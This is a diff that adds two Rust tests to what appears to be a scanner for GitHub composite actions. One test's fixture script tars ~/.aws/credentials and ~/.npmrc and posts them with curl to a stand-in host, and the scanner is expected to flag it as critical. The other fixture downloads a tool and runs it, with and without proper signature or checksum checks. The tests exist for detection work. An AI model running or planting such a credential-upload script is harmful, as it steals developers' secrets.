@@ -133,3 +133,49 @@ fn a_one_liner_that_writes_what_is_started_is_found() {
         Low
     ));
 }
+
+#[test]
+fn what_is_gathered_in_a_folder_is_followed_into_what_is_made_of_it() {
+    let script = |from: &str| {
+        format!(
+            "d=$(mktemp -d)\nfor f in {from}; do\n  cp \"$f\" \"$d/x\"\ndone\ntar czf \"$d.tgz\" -C \"$d\" .\ncurl -s --data-binary \"@$d.tgz\" https://c.example/\n"
+        )
+    };
+    let action = "runs:\n  using: composite\n  steps:\n    - run: $GITHUB_ACTION_PATH/entry.sh\n";
+    let of = |from: &str| {
+        analyse(&[
+            ("a-1/action.yml", action),
+            ("a-1/entry.sh", script(from).as_str()),
+        ])
+    };
+    assert!(has(
+        &of("~/.aws/credentials ~/.npmrc"),
+        "script-upload",
+        Critical
+    ));
+    assert!(!has(
+        &of("coverage/*.xml"),
+        "script-upload",
+        Medium
+    ));
+}
+
+#[test]
+fn a_download_whose_signature_is_checked_weighs_less() {
+    let action = "runs:\n  using: composite\n  steps:\n    - run: $GITHUB_ACTION_PATH/get.sh\n";
+    let of = |check: &str| {
+        let script = format!(
+            "set -e\ncurl -fsSLO https://cli.c.example/v1/tool\n{check}\nchmod +x tool\n./tool upload\n"
+        );
+        analyse(&[("a-1/action.yml", action), ("a-1/get.sh", script.as_str())])
+    };
+    let grave = |check: &str| has(&of(check), "script-download-run", High);
+    assert!(!grave("gpgv tool.sig tool"));
+    let sum = "0123456789abcdef".repeat(4);
+    assert!(!grave(&format!("echo \"{sum}  tool\" | sha256sum -c -")));
+    // A checksum that comes from the same place proves nothing, nor does a check that is ignored.
+    assert!(grave(
+        "curl -fsSLO https://cli.c.example/v1/tool.sha256\nsha256sum -c tool.sha256"
+    ));
+    assert!(grave("gpgv tool.sig tool || true"));
+}
